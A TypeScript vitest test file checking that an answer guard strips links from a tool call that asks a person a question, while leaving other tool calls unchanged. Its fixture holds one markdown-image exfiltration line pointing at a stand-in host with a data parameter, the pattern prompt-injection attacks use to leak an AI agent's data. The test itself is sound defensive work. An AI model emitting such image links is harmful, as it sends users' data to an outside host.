import { describe, expect, it } from 'vitest'
import type { ModelReply, ModelRequest } from '#contracts/model.ts'
import { createAnswerGuard } from '../../../src/features/policy/answers/answer-guard.ts'

describe('a question to a person', () => {
  const input = { question: 'Is ![this](https://evil.example/?d=notes) right?' }
  const calls = [
    { id: '1', name: 'isola__ask', input },
    { id: '2', name: 'http__get', input },
  ]
  const replyTo = async (more: Partial<ModelRequest>): Promise<ModelReply> => {
    const guard = createAnswerGuard({
      snapshot: async () => ({}) as never,
    })
    const generate = async () => ({ text: '', toolCalls: calls }) as never
    const models = guard.behind({ generate } as never)
    return models.generate(more as ModelRequest, { onDelta: () => {} } as never)
  }

  it('T12: points at nothing where an answer may not, and other calls are as they were', async () => {
    const { toolCalls } = await replyTo({ answersPointAt: [] })
    expect(JSON.stringify(toolCalls[0])).not.toMatch(/https:|!\[/)
    expect(toolCalls[0]).toMatchObject({ id: '1', name: 'isola__ask' })
    expect(toolCalls[1]).toEqual(calls[1])
    expect((await replyTo({})).toolCalls).toEqual(calls)
  })
})
